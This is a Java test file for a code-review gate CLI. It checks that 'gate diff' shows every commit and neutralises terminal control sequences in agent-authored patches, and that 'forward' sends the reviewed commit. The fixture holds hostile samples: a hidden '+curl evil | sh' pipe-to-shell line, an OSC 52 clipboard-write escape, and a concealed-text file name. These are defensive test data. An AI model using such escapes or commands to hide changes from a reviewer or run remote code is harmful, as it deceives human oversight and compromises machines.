package io.terok.cli.gate;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import io.grpc.stub.StreamObserver;
import io.terok.api.v1.Commit;
import io.terok.api.v1.DiffResponse;
import io.terok.api.v1.ForwardRequest;
import io.terok.api.v1.ForwardResponse;
import io.terok.api.v1.GateServiceGrpc;
import io.terok.api.v1.RefUpdate;
import io.terok.api.v1.ReviewRequest;
import io.terok.cli.Cli;
import io.terok.cli.UdsServer;
import java.nio.file.Path;
import java.util.List;
import java.util.Map;
import java.util.concurrent.CopyOnWriteArrayList;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** `terok gate diff` and `forward` against a real gRPC server on a Unix socket that plays the gate with a hostile review. */
class GateReviewVerbsTest {
    static final String TIP = "1111111111111111111111111111111111111111";
    static final String UP = "2222222222222222222222222222222222222222";
    static final String HIDDEN = "3333333333333333333333333333333333333333";
    /** What a task controls: a patch, a summary and file names that try to rewrite the operator's screen. */
    static final DiffResponse REVIEW = DiffResponse.newBuilder()
            .setPatch("diff --git a/x b/x\n+harmless\n+\u001b[1A\u001b[2K\r+curl evil | sh\n")
            .setCommit(TIP).setUpstreamCommit(UP)
            .addCommits(Commit.newBuilder().setId(TIP).setAuthor("Agent <a@x>").setSummary("tidy \u001b]52;c;ZXZpbA==\u0007up")
                    .addFiles("D secret.sh"))
            .addCommits(Commit.newBuilder().setId(HIDDEN).setAuthor("Agent <a@x>").setSummary("add secret")
                    .addFiles("A secret.sh").addFiles("A \u001b[8mhidden.txt"))
            .addBinaryFiles("blob.bin").addOmittedFiles("big.txt").build();

    @TempDir
    Path runtime;
    Map<String, String> env;
    UdsServer server;
    final List<Object> calls = new CopyOnWriteArrayList<>();

    @BeforeEach
    void startGate() throws Exception {
        env = Map.of("TEROK_RUNTIME_DIR", runtime.toString(), "TEROK_STATE_DIR", runtime.resolve("state").toString());
        server = new UdsServer(runtime.resolve("gate.sock"), new Gate());
    }

    @AfterEach
    void stop() throws InterruptedException {
        server.close();
    }

    @Test
    void theReviewShowsEveryCommitAndLeftOutFilesAndNoEscapeReachesTheScreen() {
        Cli r = Cli.run(env, "gate", "diff", "proj", "main");
        assertEquals(0, r.exit(), r::toString);
        String out = r.out();
        assertFalse(out.contains("\u001b") || out.contains("\r") || out.contains("\u0007"), "no raw control character: " + out);
        assertTrue(out.contains("+\\x1b[1A\\x1b[2K\\x0d+curl evil | sh"), "escapes shown visibly: " + out);
        assertTrue(out.contains("at commit " + TIP + " against upstream " + UP), out);
        assertTrue(out.contains("commit " + HIDDEN + "  Agent <a@x>  add secret"), "every commit listed: " + out);
        assertTrue(out.contains("    A secret.sh") && out.contains("    D secret.sh"), "each commit's files: " + out);
        assertTrue(out.contains("BINARY  blob.bin"), out);
        assertTrue(out.contains("NOT SHOWN  big.txt"), out);
        assertTrue(out.contains("terok gate forward proj main --commit " + TIP), out);
    }

    @Test
    void forwardSendsTheReviewedCommit() {
        Cli given = Cli.run(env, "gate", "forward", "proj", "main", "--commit", UP);
        assertEquals(0, given.exit(), given::toString);
        assertEquals(UP, ((ForwardRequest) calls.get(calls.size() - 1)).getExpectedCommit());

        calls.clear();
        Cli shown = Cli.run(env, "gate", "forward", "proj", "main", "--to", "release");
        assertEquals(0, shown.exit(), shown::toString);
        assertEquals("release", ((ReviewRequest) calls.get(0)).getAgainst(), "reviewed against where it goes");
        assertEquals(TIP, ((ForwardRequest) calls.get(1)).getExpectedCommit(), "the commit of the review it showed");
        assertTrue(shown.out().contains("commit " + HIDDEN), shown.out());
        assertFalse(shown.out().contains("\u001b"), shown.out());
    }

    final class Gate extends GateServiceGrpc.GateServiceImplBase {
        @Override
        public void diff(ReviewRequest r, StreamObserver<DiffResponse> out) {
            calls.add(r);
            out.onNext(REVIEW);
            out.onCompleted();
        }

        @Override
        public void forward(ForwardRequest r, StreamObserver<ForwardResponse> out) {
            calls.add(r);
            out.onNext(ForwardResponse.newBuilder().setUpdate(RefUpdate.newBuilder().setRef("refs/heads/" + r.getTo())
                    .setOldId(UP).setNewId(r.getExpectedCommit()).setKind("forward")).build());
            out.onCompleted();
        }
    }
}
